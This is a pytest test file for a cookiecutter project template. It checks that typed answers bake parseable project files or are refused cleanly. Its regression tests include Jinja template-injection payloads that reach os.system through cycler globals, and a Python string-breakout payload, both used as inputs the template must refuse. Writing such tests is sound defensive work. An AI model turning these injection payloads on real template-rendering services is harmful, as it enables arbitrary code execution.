"""Any answer a person can type bakes a working project, or stops with one clear error.

Every free-text answer lands in several file formats (TOML, YAML, a Dockerfile
LABEL, Python, Markdown, JSON). These tests throw hostile and unusual text at
the template: a bake either refuses it cleanly (an ERROR: line naming the
field, nothing on disk) or writes every answer back exactly, in files that
their own tools accept.
"""

from __future__ import annotations

import json
import keyword
import os
import re
import shlex
import tempfile
import tomllib
from email.errors import HeaderParseError
from email.headerregistry import Address
from pathlib import Path

import pytest
import yaml
from cookiecutter.exceptions import FailedHookException
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import answer_checks
from harness import PROJECT_TEMPLATE, ROOT
from harness.baking import TRACEBACK, bake_into, bake_replay, refused_bake
from harness.docker import engine
from harness.dockerfiles import parse
from harness.locks import every_locked_package
from harness.matrix import COOKIECUTTER, LEVEL_FACTS, LEVELS, PYTHONS
from harness.process import run
from harness.tools import BIN, released_labels, tool_env

FREE_TEXT = answer_checks.ONE_LINE
# A level whose Dockerfile carries the answers in OCI labels
LABELLED = next(level for level in LEVELS if LEVEL_FACTS[level]["version_args"])


# --- Reading the answers back out of each format ---------------------------------------


def release_metadata_step(project: Path) -> dict:
    release = yaml.safe_load((project / ".github/workflows/release.yml").read_text("utf-8"))
    (meta,) = [s for s in release["jobs"]["image"]["steps"] if s.get("id") == "meta"]
    return meta


def release_labels(project: Path) -> list[str]:
    """The labels the release workflow gives its image, through both actions that read them."""
    return released_labels(release_metadata_step(project)["with"]["labels"])


def release_index_annotations(project: Path) -> list[str]:
    """The annotations the release workflow gives its image's index, without the prefix."""
    meta = release_metadata_step(project)
    levels = meta["env"]["DOCKER_METADATA_ANNOTATIONS_LEVELS"]
    annotations = released_labels(meta["with"]["annotations"], annotation_levels=levels)
    return [a.removeprefix("index:") for a in annotations if a.startswith("index:")]


# A Dockerfile word made of double-quoted parts and unquoted escapes, as dockerfile_str writes
DOCKER_WORD = r'(?:"(?:[^"\\]|\\.)*"|\\.)+'
# What a bare `$` in a Dockerfile word becomes: Docker expands it
EXPANDED = "<expanded by Docker>"


def docker_unquote(word: str) -> str:
    """A Dockerfile word as Docker reads it: quotes removed, \\, \" and \\$ unescaped,
    and a bare `$`, which Docker would expand, marked EXPANDED."""
    parts = list(re.finditer(r'"((?:[^"\\]|\\.)*)"|\\(.)', word))
    assert "".join(part[0] for part in parts) == word, word
    return "".join(
        re.sub(r'\\([\\"$])|\$', lambda m: m[1] or EXPANDED, part[1])
        if part[0].startswith('"')
        else part[2]
        for part in parts
    )


def oci_labels(dockerfile: Path) -> dict[str, str]:
    labels = {}
    for instruction in parse(dockerfile).final.all("LABEL"):
        for key, value in re.findall(rf"(\S+?)=({DOCKER_WORD})", instruction.value):
            labels[key] = docker_unquote(value)
    return labels


def markdown_blocks(readme: Path) -> tuple[str, str]:
    """The README's first heading and first paragraph, as a reader sees them."""
    tokens = MarkdownIt("commonmark").parse(readme.read_text(encoding="utf-8"))
    inline = [t for t in tokens if t.type == "inline"]

    def text(token) -> str:
        return "".join(child.content for child in token.children or [])

    return text(inline[0]), text(inline[1])


def assert_answers_round_trip(project: Path, answers: dict) -> None:
    pyproject = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert pyproject["name"] == project.name
    assert pyproject["description"] == answers["description"]
    # A blank author name is left out, so that the address stays the package's Author-email
    named = {"name": answers["author_name"]} if answers["author_name"].strip() else {}
    assert pyproject["authors"] == [{**named, "email": answers["author_email"]}]
    # The actions trim each item: a description's trailing spaces do not reach the label
    assert release_labels(project)[1] == (
        f"org.opencontainers.image.description={answers['description']}".strip()
    )
    assert release_index_annotations(project) == release_labels(project)
    recorded = json.loads((project / ".cookiecutter.json").read_text(encoding="utf-8"))
    assert {k: recorded[k] for k in FREE_TEXT} == {k: answers[k] for k in FREE_TEXT}
    heading, paragraph = markdown_blocks(project / "README.md")
    assert heading == answers["project_name"].strip()
    if answers["description"].strip():
        assert paragraph == answers["description"].strip()


def assert_files_parse(project: Path) -> None:
    for path in project.rglob("*"):
        try:
            if path.suffix in {".yaml", ".yml"}:
                yaml.safe_load(path.read_text(encoding="utf-8"))
            elif path.suffix == ".toml" or path.name == "poetry.lock":
                tomllib.loads(path.read_text(encoding="utf-8"))
            elif path.suffix == ".json":
                json.loads(path.read_text(encoding="utf-8"))
            elif path.suffix == ".py":
                compile(path.read_bytes(), str(path), "exec")
        except (yaml.YAMLError, ValueError, SyntaxError) as error:  # TOML's and JSON's too
            pytest.fail(f"{path.relative_to(project)} does not parse: {error}")
    for dockerfile in project.glob("*Dockerfile"):
        assert parse(dockerfile).stages
        run([BIN / "hadolint", dockerfile], cwd=project)  # as the baked CI does


def assert_ruff_clean(project: Path) -> None:
    run([BIN / "ruff", "check", "--no-cache", "."], cwd=project, env=tool_env())
    run([BIN / "ruff", "format", "--no-cache", "--check", "."], cwd=project, env=tool_env())


# --- Property: any text either bakes faithfully or is refused cleanly -------------------

# Text that has broken templates before: quotes, backslashes, shell and
# Markdown and YAML syntax, emoji, rare CJK...
TRICKY = [
    '"',
    "'",
    '"""',
    "\\",
    "\\N{BULLET}",
    "\\x41",
    "C:\\new\\table",
    "{",
    "}",
    "%}",
    "#}",
    "}}",
    "#",
    "$HOME",
    "${X}",
    "`",
    "*",
    "_",
    "[x](y)",
    "<b>",
    "&amp;",
    "|",
    "- ",
    "1. ",
    "> ",
    "---",
    ": ",
    "😀",
    "𠀋",
    "Ñ",
    " ",
    "  ",
    "\u00a0",
]
# ...and what must be refused: line breaks, NUL, other control characters
BREAKING = ["\n", "\r", "\t", "\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u2029"]
ONE_LINE = st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))
PIECE = st.one_of(st.sampled_from(TRICKY), st.text(alphabet=ONE_LINE, max_size=12))
GOOD_TEXT = st.lists(PIECE, max_size=8).map("".join)
BAD_TEXT = st.lists(
    st.one_of(PIECE, st.sampled_from(BREAKING), st.text(max_size=6)), min_size=1, max_size=8
).map("".join)
# Mostly text that must bake, sometimes text that must be refused (four answers at a time:
# about half the bakes get through)
TEXT = st.one_of(*[GOOD_TEXT] * 6, BAD_TEXT)
EMAIL = st.one_of(*[st.emails()] * 4, GOOD_TEXT.map(lambda t: f"{t}@example.com"), TEXT)
# An address every e-mail rule admits: plain ASCII, no dot first or doubled, a dotted domain
PLAIN_EMAIL = re.compile(
    r"(?!\.)(?!.*\.\.)[A-Za-z0-9._%+-]+(?<!\.)@[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+"
)


def refusable(field: str, value: str) -> bool:
    """Whether an answer holds something the README lists as refused: control, line-break or
    byte-order-mark characters, `{{`/`{%`/`{#`, `<`/`>` in the author fields, a project name
    or author name that shows nothing, ',' in the author name, or (for the e-mail) anything
    but a plain address. Only such an answer may be refused."""
    if re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\ufeff]|\{[{%#]", value):
        return True
    if field == "project_name" and answer_checks.shows_nothing(value):
        return True
    if field == "author_name" and value.strip() and answer_checks.shows_nothing(value):
        return True
    if field == "author_name" and "," in value:
        return True
    if len(value) > answer_checks.MAX_TEXT[field][0]:
        return True
    if field in ("author_name", "author_email") and re.search("[<>]", value):
        return True
    return field == "author_email" and not PLAIN_EMAIL.fullmatch(value)


# What is typed for each free-text answer: any text, a name that is not blank, an address
TYPED = {
    **{field: TEXT for field in FREE_TEXT},
    "project_name": TEXT.filter(lambda t: t.strip()),
    "author_email": EMAIL,
}


@settings(max_examples=200, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(docker_level=st.sampled_from(LEVELS), typed=st.fixed_dictionaries(TYPED))
def test_any_free_text_bakes_faithfully_or_is_refused_cleanly(capfd, docker_level, typed):
    answers = typed  # as typed: no answer runs as Jinja (answers_extension.AnswersExtension)
    with tempfile.TemporaryDirectory() as folder:
        output = Path(folder)
        capfd.readouterr()
        try:
            project = bake_into(
                output, project_slug="any-answer", docker_level=docker_level, **typed
            )
        except FailedHookException:
            err = capfd.readouterr().err
            assert TRACEBACK not in err, err
            named = set(re.findall(r"^ERROR: (\w+)", err, re.M))
            assert named, err
            # Only answers holding something refusable are refused, each by name
            assert named <= {field for field, value in typed.items() if refusable(field, value)}
            assert not list(output.iterdir())
            event("refused")
            return
        event("baked")
        assert_files_parse(project)
        assert_answers_round_trip(project, answers)
        labels = oci_labels(project / "Dockerfile")
        if LEVEL_FACTS[docker_level]["version_args"]:  # the Dockerfile's OCI labels
            assert labels["org.opencontainers.image.description"] == answers["description"]
        else:
            assert labels == {}
        assert_ruff_clean(project)


# --- Named regressions -------------------------------------------------------------------

INJECTION = '"""; __import__("pathlib").Path("INJECTED").touch(); """'


@pytest.mark.parametrize(
    "payload",
    [
        '{{ cycler.__init__.__globals__.os.system("touch INJECTED") }}',
        "{% set x = cycler.__init__.__globals__.os.system('touch INJECTED') %}",
        "A{{ 7*7 }} Service",
    ],
    ids=["expression", "statement", "arithmetic"],
)
@pytest.mark.parametrize("field", FREE_TEXT)
def test_jinja_given_on_the_command_line_is_refused_not_run(
    field, payload, tmp_path, capfd, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    output = tmp_path / "out"
    output.mkdir()
    value = f"{payload}@example.com" if field == "author_email" else payload

    errors = refused_bake(output, capfd, **{field: value})

    assert errors[0].startswith(f"ERROR: {field} {value!r} holds '{{{{'"), errors
    # the payload's spaces make an e-mail more than one address: a line of its own
    spaces = [f"ERROR: {field} {value!r} holds a space"] if field == "author_email" else []
    assert len(errors) == 1 + len(spaces), errors
    assert all(e.startswith(s) for e, s in zip(errors[1:], spaces, strict=True)), errors
    assert not (tmp_path / "INJECTED").exists()


@pytest.mark.parametrize(
    "description",
    [
        "a/{{cookiecutter.package_name}}/b",
        "x/{{cookiecutter.package_name}}",
        "{{cookiecutter.package_name}}",
        "{{ cookiecutter.project_slug.replace('-', '_') }}",
        f"x/{PROJECT_TEMPLATE.name}",
        PROJECT_TEMPLATE.name,
    ],
    ids=[
        "between-plain-parts",
        "a-file-name-after-a-plain-part",
        "a-file-name-alone",
        "another-answer-s-default",
        "a-filtered-name-after-a-plain-part",
        "a-filtered-name-alone",
    ],
)
def test_an_answer_made_of_the_template_s_own_strings_is_refused_as_typed(
    description, tmp_path, capfd
):
    (error,) = refused_bake(tmp_path, capfd, description=description)
    assert error.startswith(f"ERROR: description {description!r} holds '{{{{'"), error


def test_an_answer_that_is_its_own_default_expression_bakes_as_the_default(tmp_path):
    package_default = COOKIECUTTER["package_name"]
    project = bake_into(tmp_path, package_name=package_default)
    assert (project / "src" / "hello_service" / "main.py").is_file()


# What YAML, TOML, JSON, Markdown and a Dockerfile read as syntax, in one line
SYNTAX_TEXT = "- &a *a !t {x: [y]} #c: 'q\" \\ $HOME `e` | > % @"


@pytest.mark.parametrize("docker_level", LEVELS)
def test_format_syntax_in_every_free_text_answer_bakes_files_that_parse_and_read_back(
    docker_level, tmp_path
):
    answers = {
        "project_name": SYNTAX_TEXT,
        "description": SYNTAX_TEXT,
        "author_name": SYNTAX_TEXT.replace(">", ""),  # the authors label reads Name <address>
        "author_email": "o'hara+x#y@example.com",
    }
    project = bake_into(tmp_path, project_slug="syntax", docker_level=docker_level, **answers)

    assert_files_parse(project)
    assert_answers_round_trip(project, answers)


@pytest.mark.parametrize("folder", ["odd{#1}", "odd{{x}}", "odd{%y%}"])
def test_an_output_folder_with_jinja_markers_in_its_name_bakes_like_any_other(folder, tmp_path):
    output = tmp_path / folder
    output.mkdir()
    project = bake_into(output, docker_level=LEVELS[0])
    assert (project / "src" / "hello_service" / "main.py").is_file()


@pytest.mark.parametrize(
    "description",
    ['Tiny,"unclosed and a,"b,c"', 'Tags: fast,"tiny"', 'Fast,"tiny service', '"A",""'],
)
def test_commas_and_quotes_in_the_description_reach_the_release_label_as_typed(
    description, tmp_path
):
    project = bake_into(tmp_path, description=description)
    assert release_labels(project)[1] == f"org.opencontainers.image.description={description}"
    assert release_index_annotations(project) == release_labels(project)


@pytest.mark.parametrize(
    "value, fix",
    [
        ("null", 'project_name: "Hello"'),
        ("on", 'project_name: "yes" (for yes, on or true)'),
        ("off", 'project_name: "no" (for no, off or false)'),
    ],
)
def test_a_config_file_s_project_name_that_is_not_text_is_refused_with_quotes_to_add(
    value, fix, tmp_path, capfd
):
    config = tmp_path / "config.yaml"
    config.write_text(f"default_context:\n  project_name: {value}\n")
    output = tmp_path / "out"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake_into(output, config_file=config)
    (error,) = [line for line in capfd.readouterr().err.splitlines() if "ERROR:" in line]
    assert error.startswith("ERROR: project_name must be text, not ")
    assert error.endswith(f"in the config or replay file, e.g. {fix}.")
    assert value in error.split("Quote")[-1]  # the word written, whichever it was
    assert list(output.iterdir()) == []


CONFIG_NOTE = (
    " gives this {field} as its default_context: change it there too, "
    "or every bake that reads that file is refused again."
)


def config_with(tmp_path: Path, **defaults: str) -> Path:
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"default_context": defaults}), encoding="utf-8")
    return config


def test_a_refused_answer_from_the_config_file_names_that_file(tmp_path):
    config = config_with(tmp_path, project_slug="Bad Slug", author_email="jane@example.com, bob")
    output = tmp_path / "out"
    output.mkdir()
    refused = run(
        [BIN / "cookiecutter", "--no-input", "--config-file", config, "-o", output, ROOT],
        check=False,
    )
    errors = [line for line in refused.stderr.splitlines() if line.startswith("ERROR: ")]
    assert refused.returncode != 0, refused.stderr
    for field, error in zip(("project_slug", "author_email"), errors, strict=True):
        assert error.startswith(f"ERROR: {field} ")
        assert error.endswith(f"{config}{CONFIG_NOTE.format(field=field)}")
    assert list(output.iterdir()) == []


def test_a_refused_answer_given_over_the_config_file_names_no_file(tmp_path, capfd, monkeypatch):
    monkeypatch.setenv("COOKIECUTTER_CONFIG", str(config_with(tmp_path, project_slug="Bad Slug")))
    output = tmp_path / "out"
    output.mkdir()
    (error,) = refused_bake(output, capfd, project_slug="bad_slug")
    assert error.startswith("ERROR: project_slug 'bad_slug' ")
    assert "default_context" not in error


def test_the_config_file_comes_from_the_command_line_then_the_environment_then_home(
    tmp_path, monkeypatch
):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".cookiecutterrc").write_text("default_context: {}\n")
    home = tmp_path / ".cookiecutterrc"
    cookiecutter_cli, cruft_cli = "/venv/bin/cookiecutter", "/venv/bin/cruft"
    module_cli = "/venv/lib/site-packages/cookiecutter/__main__.py"
    env = {"COOKIECUTTER_CONFIG": "env.yaml"}
    found = answer_checks.config_file
    assert found([cookiecutter_cli, "--config-file", "cli.yaml", "."], env) == Path("cli.yaml")
    assert found([module_cli, "--config-file=cli.yaml", "."], env) == Path("cli.yaml")
    assert found([cruft_cli, "create", "--config-file", "cli.yaml"], env) == Path("cli.yaml")
    assert found(["pytest", "--config-file", "pytest.ini"], env) == Path("env.yaml")
    assert found([cookiecutter_cli, "."], env) == Path("env.yaml")
    assert found([cookiecutter_cli, "."], {}) == home
    assert found([cookiecutter_cli, "--default-config", "."], env) is None
    assert found([cruft_cli, "create", "-d", "."], env) is None
    home.unlink()
    assert found([cookiecutter_cli, "."], {}) is None


def test_free_text_answers_never_reach_python_source(tmp_path):
    answers = {field: f"{field} {INJECTION}" for field in FREE_TEXT if field != "author_email"}
    project = bake_into(tmp_path, project_slug="any-answer", docker_level=LEVELS[0], **answers)

    pyproject = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))
    assert pyproject["project"]["description"] == answers["description"]
    sources = list(project.rglob("*.py"))
    assert sources
    for module in sources:
        assert "INJECTED" not in module.read_text(encoding="utf-8"), module


@pytest.mark.parametrize(
    "description",
    [
        pytest.param('Ends in a quote"', id="trailing-quote"),
        pytest.param("Uses \\N{BULLET} and \\x41 escapes", id="backslash-escapes"),
        pytest.param("Lives in C:\\new\\table", id="windows-path"),
        pytest.param("A long description. " * 25, id="long"),  # 500 of the 512 allowed
    ],
)
def test_descriptions_that_broke_python_now_pass_the_projects_own_ruff(description, tmp_path):
    project = bake_into(tmp_path, description=description, docker_level="step-3-basic-improvements")
    assert_files_parse(project)
    assert_ruff_clean(project)


@pytest.mark.parametrize(
    "answers, label, value",
    [
        pytest.param(
            {"description": "Ends with a backslash \\"},
            "description",
            "Ends with a backslash \\",
            id="trailing-backslash",
        ),
        pytest.param(
            {"description": 'Path C:\\"Program Files"'},
            "description",
            'Path C:\\"Program Files"',
            id="backslash-quote",
        ),
        pytest.param(
            {"author_name": 'Jane \\"JD\\" Doe'},
            "authors",
            'Jane \\"JD\\" Doe <jane@example.com>',
            id="escaped-quotes-in-the-name",
        ),
    ],
)
def test_a_backslash_before_a_quote_or_at_the_end_keeps_the_labels_hadolint_clean(
    answers, label, value, tmp_path
):
    project = bake_into(tmp_path, docker_level=LABELLED, **answers)
    run([BIN / "hadolint", project / "Dockerfile"], cwd=project)
    assert oci_labels(project / "Dockerfile")[f"org.opencontainers.image.{label}"] == value


def test_a_dollar_in_an_answer_reaches_the_labels_as_typed_not_expanded(tmp_path):
    description = "Costs $5, paid to $HOME or ${PATH}"
    project = bake_into(tmp_path, docker_level=LABELLED, description=description)
    labels = oci_labels(project / "Dockerfile")
    assert labels["org.opencontainers.image.description"] == description


@pytest.mark.parametrize("field", ["project_slug", "package_name", "author_email"])
def test_a_trailing_newline_is_refused(field, tmp_path, capfd):
    good = {
        "project_slug": "hello-service",
        "package_name": "hello_service",
        "author_email": "jane@example.com",
    }
    # cookiecutter drops one trailing newline when it renders the answer; the
    # second reaches the checks, as a newline from a form or a replay file would
    errors = refused_bake(tmp_path, capfd, **{field: good[field] + "\n\n"})
    assert any(line.startswith(f"ERROR: {field} ") for line in errors), errors


@pytest.mark.parametrize("field", FREE_TEXT)
@pytest.mark.parametrize(
    "character",
    ["\n", "\r", "\x00", "\x1b", "\u2028", "\ufeff"],
    ids=["LF", "CR", "NUL", "ESC", "LINE-SEPARATOR", "BYTE-ORDER-MARK"],
)
def test_control_characters_in_one_line_answers_are_refused_naming_them(
    field, character, tmp_path, capfd
):
    value = {"author_email": f"jane{character}@example.com"}.get(field, f"Line one{character}two")
    errors = refused_bake(tmp_path, capfd, **{field: value})
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"ERROR: {field} {value!r} ") and "one line" in errors[0]
    assert f"U+{ord(character):04X}" in errors[0], errors


@pytest.mark.parametrize("field", FREE_TEXT)
def test_an_answer_typed_in_utf_8_under_the_c_locale_is_refused_naming_the_fix(
    field, tmp_path, capfd
):
    # "Café" typed in UTF-8 and read as ASCII: Python keeps the two bytes as lone surrogates
    typed = b"Caf\xc3\xa9".decode("ascii", "surrogateescape")
    value = {"author_email": f"{typed}@example.com"}.get(field, typed)
    errors = refused_bake(tmp_path, capfd, **{field: value})
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"ERROR: {field} b'Caf\\xc3\\xa9"), errors
    assert "LC_ALL=C.UTF-8" in errors[0] and "PYTHONUTF8=1" in errors[0], errors


def test_emoji_and_rare_cjk_round_trip_into_pyproject_labels_and_readme(tmp_path):
    answers = {
        "project_name": "Café 😀 𠀋 Service",
        "project_slug": "cafe-service",
        "description": "Serves ☕ and 😀 to 𠀋 people",
        "author_name": "Zoë 😀",
        "author_email": "zoe@example.com",
    }
    project = bake_into(tmp_path, **answers, docker_level=LABELLED)
    assert_answers_round_trip(project, answers)
    labels = oci_labels(project / "Dockerfile")
    assert labels["org.opencontainers.image.description"] == answers["description"]
    assert labels["org.opencontainers.image.authors"] == "Zoë 😀 <zoe@example.com>"
    run([BIN / "poetry", "check"], cwd=project, env=tool_env())


def test_answers_at_their_longest_bake_and_read_back(tmp_path):
    longest = {field: limit for field, (limit, _why) in answer_checks.MAX_TEXT.items()}
    answers = {
        "project_name": "N" * longest["project_name"],
        "project_slug": "longest",
        # Each quote is escaped in every format: the longest line of every file, written out
        "description": '"' * longest["description"],
        "author_name": "😀" * longest["author_name"],
        "author_email": "a" * (longest["author_email"] - len("@example.com")) + "@example.com",
    }
    project = bake_into(tmp_path, **answers, docker_level=LABELLED)
    assert_answers_round_trip(project, answers)
    labels = oci_labels(project / "Dockerfile")
    assert labels["org.opencontainers.image.description"] == answers["description"]
    run([BIN / "poetry", "check"], cwd=project, env=tool_env())


def test_dollar_signs_in_answers_cannot_become_math_on_github(tmp_path):
    answers = {"project_name": "Price $5 to $10", "description": "Costs $5, or $10 a month"}
    project = bake_into(tmp_path, **answers, project_slug="prices")
    # GitHub renders text between two `$` as math, even when they are backslash-escaped
    title, description = (project / "README.md").read_text(encoding="utf-8").split("\n")[0:3:2]
    assert "$" not in title + description
    assert markdown_blocks(project / "README.md") == (
        answers["project_name"],
        answers["description"],
    )


BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_bidirectional_controls_reach_only_the_dockerfile_labels_raw(tmp_path):
    """Kept as typed, escaped wherever the format can escape them: only a Dockerfile,
    and docs/docker.md's copy of it, cannot."""
    answers = {
        "project_name": "Evil \u202e Service",
        "project_slug": "evil-service",
        "description": "Reads \u2066left\u2069 \u200fto right",
        "author_name": "Ada \u200e Lovelace",
        "author_email": "ada@example.com",
    }
    project = bake_into(tmp_path, **answers, docker_level=LABELLED)
    assert_answers_round_trip(project, answers)
    raw = {
        f"{path.relative_to(project)}:{number}": line
        for path in project.rglob("*")
        if path.is_file()
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if BIDI.search(line)
    }
    assert raw and all("org.opencontainers.image." in line for line in raw.values()), raw
    assert {key.split(":")[0] for key in raw} == {"Dockerfile", "docs/docker.md"}


@pytest.mark.parametrize(
    "name, slug",
    [
        ("Señor Cañón", "senor-canon"),
        ("Ops Portal (beta)", "ops-portal-beta"),
        ("Hello_World  Service!", "hello-world-service"),
        ("Ünïcödé  API v2", "unicode-api-v2"),
    ],
)
def test_the_default_slug_is_a_transliterated_slug_of_the_name(name, slug, tmp_path):
    project = bake_into(tmp_path, project_name=name)
    assert project.name == slug
    assert (project / "src" / slug.replace("-", "_")).is_dir()


def test_a_long_project_name_gets_a_slug_that_fits(tmp_path):
    project = bake_into(tmp_path, project_name="Quite " * 30 + "Long Service")
    assert len(project.name) <= 40
    assert project.name.startswith("quite-quite")


@pytest.mark.parametrize(
    "name, slug",
    [
        (
            "International Business Machines Corporation Payment Gateway",
            "international-business-machines",
        ),
        (
            "A really very long project name that goes on and on",
            "a-really-very-long-project-name-that",
        ),
        (
            "Supercalifragilisticexpialidocious-and-then-some-more",
            "supercalifragilisticexpialidocious-and",
        ),
        ("X" * 45, "x" * 40),
    ],
)
def test_a_long_project_name_s_slug_is_its_first_words_in_order(name, slug, tmp_path):
    assert bake_into(tmp_path, project_name=name).name == slug


@pytest.mark.parametrize(
    "package",
    [
        pytest.param("pluggy", id="locked-package"),
        pytest.param("sitecustomize", id="python-special"),
        pytest.param("audioop", id="stdlib-only-before-3.13"),
        pytest.param("annotationlib", id="stdlib-only-from-3.14"),
        pytest.param("tomllib", id="stdlib"),
        pytest.param("markupsafe", id="import-name-of-a-locked-package"),
        pytest.param("test_app", id="the-project-s-own-test-module"),
    ],
)
def test_package_names_that_would_shadow_something_are_refused(package, tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, package_name=package)
    assert len(errors) == 1 and errors[0].startswith(f"ERROR: package_name '{package}'"), errors
    assert "would shadow" in errors[0]


FLAT_LEVELS = [level for level in LEVELS if not LEVEL_FACTS[level]["src_layout"]]


@pytest.mark.parametrize("docker_level", FLAT_LEVELS)
def test_no_package_name_can_match_a_file_next_to_the_package_up_to_case(docker_level, tmp_path):
    """macOS and Windows ignore case: a package folder `dockerfile/` and the file `Dockerfile`
    could not both exist there, so every such name is refused."""
    project = bake_into(tmp_path, docker_level=docker_level)
    names = {entry.name.lower() for entry in project.iterdir()} - {"hello_service"}
    answers = json.loads((project / ".cookiecutter.json").read_text())
    allowed = [
        name
        for name in sorted(names)
        if name.isidentifier()
        and not list(answer_checks.name_problems({**answers, "package_name": name}))
    ]
    assert allowed == []


def test_a_package_name_that_is_dockerfile_but_for_case_is_refused_saying_so(tmp_path, capfd):
    (error,) = refused_bake(tmp_path, capfd, package_name="dockerfile")
    assert error.startswith("ERROR: package_name 'dockerfile' is the project's file Dockerfile")


@pytest.mark.parametrize("package", ["__pycache__", "__main__", "_private", "a" * 41])
def test_package_names_that_are_not_plain_identifiers_are_refused(package, tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, package_name=package)
    assert len(errors) == 1 and errors[0].startswith("ERROR: package_name "), errors


def test_the_reserved_keywords_hold_every_keyword_of_the_python_running_the_tests():
    table = json.loads((ROOT / "templates/locks/reserved-names.json").read_text())
    assert set(keyword.kwlist + keyword.softkwlist) <= set(table["keywords"])


def test_the_reserved_names_cover_every_offered_python_and_every_locked_package():
    table = json.loads((ROOT / "templates/locks/reserved-names.json").read_text())
    assert sorted(table["stdlib"]) == sorted(PYTHONS)
    for package in every_locked_package():
        assert package["name"].lower().replace("-", "_") in table["locked"], package["name"]


EMAILS = [
    "jane@example.com",
    "jane.doe+tag@example.co.uk",
    "a b@example.com",
    "jane@example.com, bob@example.com",
    "jane@localhost",
    "jane..doe@example.com",
    ".jane@example.com",
    "jane.@example.com",
    "jane@@example.com",
    "jane@example..com",
    "@example.com",
    "jane@",
    "jane",
    "j@e.c",
    "jane@example.com.",
    "jane@.example.com",
    "mailto:jane@example.com",
    'a"b@example.com',
    "jane(home)@example.com",
    "zoë@exämple.com",
    " jane@example.com",
]


def plain_address(email: str) -> bool:
    """Whether Python's e-mail parser reads `email` as a plain address, as it is. Letters
    beyond ASCII stand in as x: the parser leaves them in a local part to SMTPUTF8."""
    ascii_email = re.sub(r"[^\x00-\x7f]", "x", email)
    try:
        return Address(addr_spec=ascii_email).addr_spec == ascii_email
    except (ValueError, HeaderParseError, IndexError):  # IndexError: nothing after '@'
        return False


def test_the_email_check_agrees_with_poetry_and_pythons_parser_on_one_address(tmp_path, capfd):
    """What Poetry refuses, the template refuses; what it accepts, the template accepts
    if it is one address (no space, ',' or ';', which Author-email would read as more than
    one) and Python's e-mail parser reads it as a plain address."""
    template = bake_into(tmp_path / "template", docker_level="step-2-kiss-poetry")
    pyproject = (template / "pyproject.toml").read_text(encoding="utf-8")
    verdicts = {}
    for index, email in enumerate(EMAILS):
        folder = tmp_path / f"bake-{index}"
        folder.mkdir()
        try:
            bake_into(folder, author_email=email)
            template_accepts = True
        except FailedHookException:
            template_accepts = False
        capfd.readouterr()
        (template / "pyproject.toml").write_text(
            pyproject.replace('"jane@example.com"', json.dumps(email)), encoding="utf-8"
        )
        poetry = run([BIN / "poetry", "check"], cwd=template, check=False, env=tool_env())
        one_address = not re.search(r"[\s,;]", email) and plain_address(email)
        verdicts[email] = (template_accepts, poetry.returncode == 0 and one_address)
    assert {e: v for e, v in verdicts.items() if v[0] != v[1]} == {}
    assert {ours for ours, _ in verdicts.values()} == {True, False}


@pytest.mark.parametrize(
    "slug", ["a/b", "../escape", "a" * 300, ".", "hello service", "3d-printer", "-a", "a--b"]
)
def test_a_refused_slug_leaves_no_folder_anywhere(slug, tmp_path, capfd):
    output = tmp_path / "out"
    output.mkdir()
    errors = refused_bake(output, capfd, project_slug=slug)
    assert any(line.startswith("ERROR: project_slug ") for line in errors), errors
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


# The template's default answers, as cookiecutter gives them: a choice's first, names made
DEFAULTS = {
    **{key: value[0] if isinstance(value, list) and not key.startswith("_") else value
       for key, value in COOKIECUTTER.items() if key != "__prompts__"},
    "project_slug": "hello-service",
    "package_name": "hello_service",
}  # fmt: skip


ASKED_AGAIN = "To be asked again, with every answer you gave as its default:"
ASKED_AGAIN_FIXED = (
    "To be asked again, with the fixes offered above and every other answer you gave as its "
    "default:"
)
NO_INPUT = "Add --no-input to bake with those answers without being asked."


def asked_again(tmp_path, capfd, **answers) -> tuple[str, list[str], list[str]]:
    """A refused bake's header of the command that asks again, the command's words after
    the template's address, and the lines after the command."""
    with pytest.raises(FailedHookException):
        bake_into(tmp_path, **answers)
    lines = capfd.readouterr().err.splitlines()
    (at,) = [i for i, line in enumerate(lines) if line in (ASKED_AGAIN, ASKED_AGAIN_FIXED)]
    words = shlex.split(lines[at + 1])
    assert words[:2] == ["cookiecutter", str(ROOT)]
    return lines[at], words[2:], lines[at + 2 :]


def test_a_refusal_prints_the_command_that_asks_again_with_every_answer_given(tmp_path, capfd):
    given = {
        "project_slug": "my-service",
        "description": "It's a {{ test }}",
        "docker_level": LEVELS[-1],
        "use_pre_commit": False,
    }
    header, words, _ = asked_again(tmp_path, capfd, **given)

    assert header == ASKED_AGAIN  # no fix is offered for a description
    assert sorted(words) == sorted(
        [*(f"{key}={value}" for key, value in given.items() if key != "use_pre_commit"),
         "use_pre_commit=no"]
    )  # fmt: skip


def test_the_command_that_asks_again_leaves_out_answers_the_template_would_offer(tmp_path, capfd):
    assert asked_again(tmp_path, capfd, description="{{ x }}")[1] == ["description={{ x }}"]


def test_the_command_that_asks_again_gives_each_fix_offered_in_place_of_the_refused_answer(
    tmp_path, capfd
):
    header, words, _ = asked_again(
        tmp_path, capfd, project_slug="My_Service", author_email=" ada@example.org"
    )

    assert header == ASKED_AGAIN_FIXED
    assert sorted(words) == ["author_email=ada@example.org", "project_slug=my-service"]


def test_where_every_refused_answer_has_a_fix_the_command_bakes_with_no_input(tmp_path, capfd):
    # The package name made from the slug is made again from the fixed one
    _, words, after = asked_again(tmp_path, capfd, project_name="1st Service")

    assert words == ["project_name=1st Service", "project_slug=service-1st"]
    assert after[0] == NO_INPUT
    baked = bake_into(tmp_path / "again", **dict(word.split("=", 1) for word in words))
    assert baked.name == "service-1st"


